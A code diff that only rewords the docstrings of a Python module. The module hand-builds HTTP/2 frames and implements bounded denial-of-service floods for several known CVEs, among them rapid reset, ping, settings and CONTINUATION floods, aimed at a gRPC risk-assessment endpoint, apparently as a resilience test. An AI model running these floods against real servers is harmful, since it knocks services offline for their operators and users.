@@ -1,4 +1,4 @@
-"""HTTP/2 as somebody speaks it who means harm: frames by hand (RFC 9113), within bounds of count and time."""
+"""HTTP/2 attacks: hand-made frames (RFC 9113), bounded in number and time."""
 
 from __future__ import annotations
 
@@ -15,9 +15,9 @@ DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION
 END_STREAM, END_HEADERS = 1, 4
 PATH: Final = "/riskd.v1.RiskService/Assess"
 BATCH: Final = 64
-"""Frames a write."""
+"""Frames in a write."""
 SECONDS: Final = 4.0
-"""Longest that one flood lasts."""
+"""Longest duration of a flood."""
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -26,12 +26,12 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 
 def literal(name: bytes, value: bytes) -> bytes:
-    """A header field, neither indexed nor packed (RFC 7541, 6.2.2), both below 127 bytes."""
+    """A header field without indexing or compression (RFC 7541, 6.2.2). Name and value have at most 126 bytes."""
     return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value
 
 
 def call(path: str) -> bytes:
-    """The headers of a call, its path below 127 bytes."""
+    """The headers of a call. The path has at most 126 bytes."""
     return b"".join(
         literal(name, value)
         for name, value in (
@@ -49,7 +49,7 @@ CALL: Final = call(PATH)
 
 
 class Peer:
-    """A connection that has said hello and reads nothing unless told to."""
+    """A connection after the HTTP/2 preface that reads nothing unless told to."""
 
     def __init__(self, address: str, settings: bytes = b"") -> None:
         host, _, port = address.rpartition(":")
@@ -59,7 +59,7 @@ class Peer:
         self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
 
     def flood(self, frames: Iterator[bytes], most: int, *, reads: bool) -> None:
-        """Send up to so many, until the server has enough or does not read any more."""
+        """Send up to `most` frames, until the server closes the connection or stops reading."""
         deadline = time.monotonic() + SECONDS
         with suppress(OSError):
             while self.sent < most and time.monotonic() < deadline:
@@ -76,7 +76,7 @@ class Peer:
         self.socket.settimeout(0.5)
 
     def hears(self, words: bytes) -> bool:
-        """Whether the server says this, sooner or later."""
+        """Whether the server sends these bytes before long."""
         self.socket.settimeout(10)
         got = b""
         while words not in got:
@@ -87,62 +87,62 @@ class Peer:
         return True
 
     def close(self) -> None:
-        """Let go."""
+        """Close the connection."""
         self.socket.close()
 
 
 def calls(message: bytes, flags: int = END_STREAM) -> Iterator[bytes]:
-    """A whole call on a stream of its own."""
+    """Complete calls, each on a stream of its own."""
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, flags, stream, _message(message))
 
 
 def rapid_resets() -> Iterator[bytes]:
-    """Begun and taken back (CVE-2023-44487)."""
+    """Calls that are started and cancelled (CVE-2023-44487)."""
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
 
 
 def provoked_resets() -> Iterator[bytes]:
-    """Begun, and then something that makes the server take it back (CVE-2025-8671)."""
+    """Calls that are started and then make the server cancel them (CVE-2025-8671)."""
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
 
 
 def pings() -> Iterator[bytes]:
-    """Each wants an answer (CVE-2019-9512)."""
+    """Pings, each of which has to be answered (CVE-2019-9512)."""
     for number in count():
         yield frame(PING, 0, 0, struct.pack(">Q", number))
 
 
 def settings() -> Iterator[bytes]:
-    """Each wants an answer (CVE-2019-9515)."""
+    """Settings, each of which has to be acknowledged (CVE-2019-9515)."""
     for number in count():
         yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2))
 
 
 def priorities() -> Iterator[bytes]:
-    """They change the order of streams that are not there (CVE-2019-9513)."""
+    """Changes of the priority of streams that do not exist (CVE-2019-9513)."""
     for stream in count(1, 2):
         yield frame(PRIORITY, 0, stream % (1 << 30), struct.pack(">IB", 0, stream % 256))
 
 
 def continuations() -> Iterator[bytes]:
-    """Headers that do not end (CVE-2024-27316)."""
+    """Headers that never end (CVE-2024-27316)."""
     yield frame(HEADERS, 0, 1, CALL)
     for number in count():
         yield frame(CONTINUATION, 0, 1, literal(b"x-%d" % number, b"y" * 100) * 100)
 
 
 def empty_frames() -> Iterator[bytes]:
-    """Data of which there is none (CVE-2019-9518)."""
+    """Data frames without data (CVE-2019-9518)."""
     yield frame(HEADERS, END_HEADERS, 1, CALL)
     while True:
         yield frame(DATA, 0, 1)
 
 
 def a_gibibyte() -> Iterator[bytes]:
-    """One message, of which the first bytes say that it is so large."""
+    """A message whose prefix announces a gibibyte."""
     yield frame(HEADERS, END_HEADERS, 1, CALL)
     yield frame(DATA, 0, 1, b"\0" + struct.pack(">I", 1 << 30))
     while True:
@@ -150,13 +150,13 @@ def a_gibibyte() -> Iterator[bytes]:
 
 
 def many_streams() -> Iterator[bytes]:
-    """Calls that are begun and never go on."""
+    """Calls that are started and never continue."""
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS, stream, CALL)
 
 
 def empty_calls() -> Iterator[bytes]:
-    """Calls that end without the message that they are to have."""
+    """Calls that end without their message."""
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS | END_STREAM, stream, CALL)
 
@@ -173,9 +173,9 @@ FLOODS: Final[dict[str, tuple[Callable[[], Iterator[bytes]], int]]] = {
     "many streams": (many_streams, 40_000),
     "empty calls": (empty_calls, 40_000),
 }
-"""What is sent, and how often at most."""
+"""The frames of each flood, and their largest number."""
 
 
 def _message(content: bytes) -> bytes:
-    """Length-prefixed, as gRPC has it."""
+    """A length-prefixed gRPC message."""
     return b"\0" + struct.pack(">I", len(content)) + content
